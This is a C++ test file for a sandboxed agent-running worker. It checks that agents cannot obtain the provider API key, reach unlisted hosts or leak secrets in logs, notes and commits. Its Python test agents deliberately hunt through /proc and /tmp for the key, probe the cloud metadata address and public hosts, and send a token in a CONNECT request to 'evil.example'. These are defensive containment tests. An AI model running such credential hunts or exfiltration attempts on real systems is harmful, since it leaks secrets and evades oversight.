// What the sandboxes of an attempt may reach, what they may not, and what never leaves them.
#include "worker/server/outlets.h"

#include <gtest/gtest.h>

#include "common/os/file.h"
#include "tests/worker/server/loopback_server.h"
#include "tests/worker/server/worker_under_test.h"
#include "worker/server/redaction.h"
#include "worker/server/worker.h"

namespace swarmlab::worker {
namespace {

constexpr const char* kKey = "sk-real-0123456789abcdef";

bool has(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

// Agents are programs in a folder that the sandboxes show.
class OutletsOfAnAttempt : public WithSandbox {
 protected:
  void SetUp() override {
    WithSandbox::SetUp();
    if (testing::Test::IsSkipped()) return;
    must(make_folders(programs() + "/bin"));
    sandbox = must(sandbox::make_bubblewrap({.expose = {programs()}}));
    settings.limits.memory_bytes = 512ULL << 20U;
    settings.agent.command = "exec agent";
    options.address = folder.address();
    options.name = "w";
    options.folder = folder.path("worker");
    options.host_class = "epyc";
    options.version = "1.0";
  }
  void TearDown() override {
    if (!worker) return;
    worker->leave();
    thread.join();
  }

  [[nodiscard]] std::string programs() const { return folder.path("programs"); }
  template <class T>
  static T must(Result<T> result) {
    return swarmlab::worker::must(std::move(result));
  }
  static void must(const Result<void>& result) { ASSERT_TRUE(result) << result.error().message; }

  // A program in Python that says what it found out in its notes.
  void program(const std::string& name, const std::string& script) const {
    const std::string text = std::string("#!/usr/bin/python3 -IB\n") + R"(
import errno, json, os, socket, sys, urllib.error, urllib.request
found = []
def note(text): found.append(str(text))
def get(url, data=None, headers={}):
  try: return urllib.request.urlopen(urllib.request.Request(url, data, headers), timeout=20).read().decode()
  except urllib.error.HTTPError as error: return str(error.code)
  except OSError as error: return type(error).__name__
)" + script + R"(
json.dump({"notes": "\n".join(found)}, open(os.environ["SWARMLAB_OUTCOME"], "w"))
if not os.path.exists("pipeline/solve.sh.done"): open("pipeline/solve.sh", "w").write("echo METRIC score=9\n")
)";
    must(write_file(programs() + "/bin/" + name, text, 0755));
  }

  ScriptedCoordinator::Delivered report() {
    coordinator.give(task(2, settings));
    worker = must(Worker::start(options, std::move(sandbox), clock));
    thread = std::thread([this] { (void)worker->run(); });
    EXPECT_TRUE(coordinator.wait_for_reports(1));
    const auto delivered = coordinator.delivered();
    return delivered.empty() ? ScriptedCoordinator::Delivered{} : delivered.front();
  }

  LabSettings settings = lab_settings();
  WorkerOptions options;
  std::unique_ptr<Worker> worker;
  std::thread thread;
};

TEST_F(OutletsOfAnAttempt, LeadAnAgentToItsProviderWithoutTheKey) {
  const LoopbackServer provider(
      R"({"model":"claude-x-20250101","usage":{"input_tokens":1000,"output_tokens":100}})");
  settings.agent.kind = AgentKind::claude;
  settings.agent.command.clear();
  settings.agent.base_url = provider.url();
  settings.agent.prices = {{"claude-x", MicroUsd(3'000'000), MicroUsd(15'000'000), MicroUsd(0)}};
  options.provider_keys = must(ProviderKeys::parse(provider.url() + " " + kKey));
  options.environment = {"HOME=/nowhere"};
  program("claude", R"(
base = os.environ["ANTHROPIC_BASE_URL"]
token = os.environ["ANTHROPIC_API_KEY"]
note(json.loads(get(base + "/v1/messages", b"{}", {"x-api-key": token}))["model"])
note(get(base + "/v1/messages", b"{}", {"x-api-key": "sk-swarmlab-of-another-lease"}))
note(get(base + "/v1/files", b"{}", {"x-api-key": token}))
whole = "sk-real-" + "0123456789abcdef"
for folder, _, names in list(os.walk("/proc")) + list(os.walk("/home")) + list(os.walk("/swarmlab")) + list(os.walk("/tmp")):
  for name in names:
    try:
      path = os.path.join(folder, name)
      if name in ("environ", "cmdline", "maps") or not folder.startswith("/proc"):
        if whole.encode() in open(path, "rb").read(1 << 20): note("found in " + path)
    except OSError: pass
print(json.dumps({"type": "result", "subtype": "success", "is_error": False, "total_cost_usd": 0.0001,
                  "usage": {"input_tokens": 1, "output_tokens": 1}}))
)");
  const auto delivered = report();
  const Report& said = delivered.report;
  EXPECT_EQ(said.outcome, Outcome::measured) << said.reason;
  EXPECT_EQ(said.notes.notes, "claude-x-20250101\n401\n404") << delivered.attachments.agent_log;
  EXPECT_EQ(said.cost.input_tokens, 1000) << "as the bridge measured it, not as the agent said";
  EXPECT_EQ(said.cost.output_tokens, 100);
  EXPECT_EQ(said.cost.usd, MicroUsd(1000 * 3 + 100 * 15));
  ASSERT_TRUE(said.agent);
  EXPECT_EQ(said.agent->cost_source, CostSource::measured);
  ASSERT_EQ(provider.requests().size(), 1);
  EXPECT_TRUE(has(provider.requests()[0], kKey));
}

TEST_F(OutletsOfAnAttempt, LeadToAProviderWithoutASandboxToo) {
  const LoopbackServer provider(R"({"model":"m","usage":{"input_tokens":10,"output_tokens":1}})");
  sandbox = must(sandbox::make_none({.expose = {programs()}}));
  settings.agent.kind = AgentKind::claude;
  settings.agent.command.clear();
  settings.agent.base_url = provider.url();
  options.provider_keys = must(ProviderKeys::parse(provider.url() + " " + kKey));
  program("claude", R"(
base = os.environ["ANTHROPIC_BASE_URL"]
note(json.loads(get(base + "/v1/messages", b"{}", {"x-api-key": os.environ["ANTHROPIC_API_KEY"]}))["model"])
note(get(base + "/v1/messages", b"{}", {"x-api-key": "of somebody else on this machine"}))
)");
  const auto delivered = report();
  EXPECT_EQ(delivered.report.notes.notes, "m\n401") << delivered.attachments.agent_log;
  EXPECT_EQ(delivered.report.cost.input_tokens, 10);
}

TEST_F(OutletsOfAnAttempt, EndWithWhatTheLeaseMaySpend) {
  const LoopbackServer provider(R"({"model":"m","usage":{"input_tokens":1000,"output_tokens":0}})");
  settings.agent.kind = AgentKind::claude;
  settings.agent.command.clear();
  settings.agent.base_url = provider.url();
  settings.agent.prices = {{"m", MicroUsd(1'000'000), {}, {}}};
  settings.stop.max_cost = MicroUsd(2'500);
  settings.guard = Guard{.command = "false", .timeout = std::chrono::seconds(60), .reworks = 1};
  program("claude", R"(
url = os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages"
for _ in range(2): print(get(url, b"{}", {"x-api-key": os.environ["ANTHROPIC_API_KEY"]}))
)");
  const auto delivered = report();
  EXPECT_EQ(provider.requests().size(), 3)
      << "both rounds share it: " << delivered.attachments.agent_log;
  EXPECT_EQ(delivered.report.cost.usd, MicroUsd(3'000));
}

TEST_F(OutletsOfAnAttempt, LeadToTheHostsThatTheLabNamesAndToNoOther) {
  const LoopbackServer named("named");
  const LoopbackServer other("other");
  settings.agent.network = {{"127.0.0.1", named.port()}, {"localhost", other.port()}};
  program("agent", fmt::format(R"(
for name in ("no_proxy", "NO_PROXY"): del os.environ[name]
proxies = urllib.request.ProxyHandler({{"http": os.environ["HTTP_PROXY"]}})
urllib.request.install_opener(urllib.request.build_opener(proxies))
note(get("http://127.0.0.1:{0}/"))
note(get("http://127.0.0.1:{1}/"))
note(get("http://127.0.0.1:{1}/"))
note(get("http://localhost:{1}/"))
note(get("http://169.254.169.254/latest/meta-data/"))
for family, kind, place in (
    (socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)), (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 443)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700::1111", 443)), (socket.AF_INET6, socket.SOCK_DGRAM, ("ff02::fb", 5353)),
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {1})), (socket.AF_INET6, socket.SOCK_STREAM, ("::1", {1}))):
  try:
    with socket.socket(family, kind) as one:
      one.settimeout(5)
      one.connect(place)
      one.send(b"x")
    note("reached " + str(place))
  except OSError: pass
try: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); note("raw")
except OSError: pass
try: socket.getaddrinfo("example.org", 80); note("resolved")
except OSError: pass
)",
                               named.port(), other.port()));
  const auto delivered = report();
  const Report& said = delivered.report;
  EXPECT_EQ(said.outcome, Outcome::measured) << said.reason << delivered.attachments.agent_log;
  EXPECT_EQ(said.notes.notes, "named\n403\n403\n403\n403");
  EXPECT_EQ(named.requests().size(), 1);
  EXPECT_TRUE(other.requests().empty());
  ASSERT_TRUE(said.agent) << "what was refused is told";
  const std::vector<NetworkRefusal> refused = {
      {"127.0.0.1", other.port(), 2}, {"169.254.169.254", 80, 1}, {"localhost", other.port(), 1}};
  EXPECT_EQ(said.agent->refused, refused);
}

TEST_F(OutletsOfAnAttempt, AreNoneUnlessTheLabNamesSome) {
  program("agent", R"(
note([name for name in os.environ if "proxy" in name.lower()])
for port in (4100, 4101):
  try: socket.create_connection(("127.0.0.1", port), 5); note("open")
  except ConnectionRefusedError: pass
)");
  EXPECT_EQ(report().report.notes.notes, "[]");
}

TEST_F(OutletsOfAnAttempt, LetAnEvaluatorOutOnlyIfTheLabSaysSo) {
  const LoopbackServer server("7");
  const std::string score =
      "python3 -c \"import os, urllib.request as u; [os.environ.pop(n, 0) for n in ('no_proxy', "
      "'NO_PROXY')]; p = os.environ.get('HTTP_PROXY');"
      "u.install_opener(u.build_opener(u.ProxyHandler({'http': p} if p else {})));"
      "print('METRIC score=' + u.urlopen('" +
      server.url() + "').read().decode())\"";
  settings.evaluator.how = evaluator(score);
  settings.evaluator.network = {{"127.0.0.1", server.port()}};
  program("agent", "note(os.environ.get('HTTP_PROXY'))");
  const auto delivered = report();
  ASSERT_TRUE(delivered.report.measurement) << delivered.attachments.evaluator_log;
  EXPECT_EQ(delivered.report.measurement->score, 7);
  EXPECT_EQ(delivered.report.notes.notes, "None") << "the agent has a list of its own";
}

TEST_F(OutletsOfAnAttempt, TakeNoSecretAlongInAnyText) {
  settings.agent.env = {"GH_TOKEN"};
  settings.agent.network = {{"pypi.org", 0}};
  options.environment = {std::string("GH_TOKEN=") + kKey};
  program("agent", R"(
key = os.environ["GH_TOKEN"]
print("x" * 100_000 + key)
print(key, key.upper()); print(key, file=sys.stderr)
note(key)
print(key * 60_000)  # cut somewhere
with socket.create_connection(("127.0.0.1", 4101)) as proxy:
  proxy.sendall(f"CONNECT {key}.evil.example:443 HTTP/1.1\r\n\r\n".encode())
  proxy.recv(100)
said = {"hypothesis": "the key is " + key, "mechanism": key, "ideas": [key], "notes": key}
json.dump(said, open(os.environ["SWARMLAB_HYPOTHESIS"], "w"))
json_dump = json.dump
json.dump = lambda what, file: json_dump(said, file)
)");
  const auto delivered = report();
  const Report& said = delivered.report;
  EXPECT_EQ(said.outcome, Outcome::measured) << said.reason;
  EXPECT_EQ(said.notes.hypothesis, "the key is [redacted]");
  EXPECT_EQ(said.notes.ideas, std::vector<std::string>{"[redacted]"});
  ASSERT_TRUE(said.agent);
  ASSERT_EQ(said.agent->refused.size(), 1);
  EXPECT_EQ(said.agent->refused[0].host, "[redacted].evil.example");
  EXPECT_FALSE(has(delivered.attachments.agent_log, "0123456789"))
      << delivered.attachments.agent_log;
  EXPECT_FALSE(has(delivered.pack, kKey));
  ASSERT_TRUE(git::index_pack(lab.repository, delivered.pack, *said.commit));
}

TEST_F(OutletsOfAnAttempt, RefuseACandidateThatHasASecret) {
  settings.agent.env = {"GH_TOKEN"};
  options.environment = {std::string("GH_TOKEN=") + kKey};
  program("agent", "open('pipeline/config', 'w').write('token = ' + os.environ['GH_TOKEN'])");
  const auto delivered = report();
  EXPECT_EQ(delivered.report.outcome, Outcome::out_of_scope);
  EXPECT_EQ(delivered.report.paths, std::vector<std::string>{"pipeline/config"});
  EXPECT_TRUE(has(delivered.report.reason, "secret")) << delivered.report.reason;
  EXPECT_FALSE(delivered.report.commit);
  EXPECT_TRUE(delivered.pack.empty());
}

TEST(Redaction, KnowsHowSecretsAreNamed) {
  for (const char* name : {"OPENAI_API_KEY", "GH_TOKEN", "DB_PASSWORD", "AWS_SECRET_ACCESS_KEY",
                           "MYTOKEN", "api_key", "NPM_AUTH", "PGPASSWORD", "OPENAI_APIKEY"}) {
    EXPECT_TRUE(is_named_like_a_secret(name)) << name;
  }
  for (const char* name :
       {"AUTHOR", "KEYBOARD", "PATH", "HOME", "GIT_AUTHOR_NAME", "MONKEY", "COMPASS", ""}) {
    EXPECT_FALSE(is_named_like_a_secret(name)) << name;
  }
}

TEST(Prices, AreThoseOfTheLongestNameThatFits) {
  const std::vector<Price> prices = {{"gpt", MicroUsd(1'000'000), {}, {}},
                                     {"gpt-5", MicroUsd(2'000'000), MicroUsd(8'000'000), {}}};
  EXPECT_EQ(rates_for(prices, "gpt-5-2026-01-01")->input, 2);
  EXPECT_EQ(rates_for(prices, "gpt-5")->output, 8);
  EXPECT_EQ(rates_for(prices, "gpt-4")->input, 1);
  EXPECT_FALSE(rates_for(prices, "claude").has_value());
}

TEST(CostOfARun, IsWhatWasMeasuredAsFarAsItWas) {
  const Cost said{.usd = MicroUsd(5), .input_tokens = 1, .output_tokens = 2};
  const Cost measured{.usd = MicroUsd(3), .input_tokens = 10, .output_tokens = 20};
  EXPECT_EQ(cost_of(said, std::nullopt), said);
  EXPECT_EQ(cost_of(said, Tally{}), said);
  EXPECT_EQ(cost_of(said, Tally{.cost = measured, .requests = 1}), measured);
  Tally unpriced{.cost = measured, .requests = 1, .priced = false};
  unpriced.cost.usd = MicroUsd(0);
  EXPECT_EQ(cost_of(said, unpriced), (Cost{MicroUsd(5), 10, 20}));
}

AgentEnded ended_as(AgentEnd end) {
  AgentEnded ended;
  ended.run = AgentRun{.end = end, .said = "its own words"};
  return ended;
}

Tally in_trouble(std::uint32_t times, bool is_hopeless) {
  Tally tally;
  tally.trouble = Trouble{.end = AgentEnd::rate_limited,
                          .said = "slow down\x1b[31m",
                          .retry_after = Milliseconds(7000),
                          .times = times,
                          .is_hopeless = is_hopeless};
  return tally;
}

TEST(BlameOfTheProvider, IsPutOnWhatItFailedToTheEnd) {
  for (const AgentEnd end : {AgentEnd::timed_out, AgentEnd::crashed, AgentEnd::finished}) {
    AgentEnded ended = ended_as(end);
    blame_provider(ended, in_trouble(5, true));
    EXPECT_EQ(ended.run->end, AgentEnd::rate_limited);
    EXPECT_EQ(ended.run->said, "slow down");
    EXPECT_EQ(ended.run->retry_after, Milliseconds(7000));
    ASSERT_TRUE(ended.failure);
    EXPECT_EQ(ended.failure->outcome, Outcome::returned) << "no experiment is made of it";
  }
  AgentEnded late = ended_as(AgentEnd::timed_out);
  blame_provider(late, in_trouble(2, false));
  EXPECT_EQ(late.run->end, AgentEnd::rate_limited);
}

TEST(BlameOfTheProvider, IsNotPutOnOneFailureAmongOthersOrOnWhatWentWell) {
  AgentEnded well = ended_as(AgentEnd::finished);
  blame_provider(well, in_trouble(4, false));
  EXPECT_EQ(well.run->end, AgentEnd::finished);
  AgentEnded once = ended_as(AgentEnd::timed_out);
  blame_provider(once, in_trouble(1, false));
  EXPECT_EQ(once.run->end, AgentEnd::timed_out);
  AgentEnded quiet = ended_as(AgentEnd::timed_out);
  blame_provider(quiet, Tally{});
  EXPECT_EQ(quiet.run->end, AgentEnd::timed_out);
}

TEST(BlameOfTheProvider, LeavesThatOfTheAgentsOwnStream) {
  AgentEnded told = ended_as(AgentEnd::authentication_failed);
  blame_provider(told, in_trouble(5, true));
  EXPECT_EQ(told.run->end, AgentEnd::authentication_failed);
  EXPECT_EQ(told.run->said, "its own words");
}

}  // namespace
}  // namespace swarmlab::worker
